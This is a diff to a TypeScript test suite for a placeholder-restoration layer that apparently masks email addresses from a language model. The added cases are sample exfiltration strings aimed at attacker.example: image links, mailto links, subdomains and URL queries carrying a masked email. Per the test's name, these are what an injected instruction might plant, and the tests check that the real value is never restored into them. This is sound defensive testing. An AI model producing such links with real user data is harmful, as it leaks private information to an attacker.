@@ -198,6 +198,31 @@ describe("reversible tokens", () => {
   it("do not come back inside an address, where an injected instruction may have put them", () => {
     const values = new Map([["[[EMAIL_1]]", "ada@example.com"]]);
     expect(restorations("![x](https://attacker.example/?d=[[EMAIL_1]])", values)).toEqual([]);
+    for (const text of [
+      "mailto:eve@attacker.example?body=[[EMAIL_1]]",
+      "[write](MAILTO:eve@attacker.example?subject=[[EMAIL_1]])",
+      "go to attacker.example/[[EMAIL_1]]",
+      "attacker.example?d=[[EMAIL_1]]",
+      "[[EMAIL_1]].attacker.example",
+      "[[ EMAIL_1 ]].attacker.example",
+      "[[EMAIL_1]]-x.attacker.example",
+      "[[EMAIL_1]][[EMAIL_1]].attacker.example",
+      "[[EMAIL_1]]@attacker.example",
+    ]) {
+      expect(restorations(text, values)).toEqual([]);
+      for (let cut = 1; cut < text.length; cut++) {
+        const restoring = createRestoring(values, false);
+        const first = text.slice(0, restoring.hold(text.slice(0, cut)));
+        expect(restoring.apply(first) + restoring.apply(text.slice(first.length))).toBe(text);
+      }
+    }
+    for (const text of [
+      "Write to [[EMAIL_1]].",
+      "[[EMAIL_1]]. Then",
+      "and/or [[EMAIL_1]]",
+      "Mail: [[EMAIL_1]]",
+    ])
+      expect(restorations(text, values)).toHaveLength(1);
     expect(restorations("see https://example.com or write [[EMAIL_1]]", values)).toHaveLength(1);
   });
 
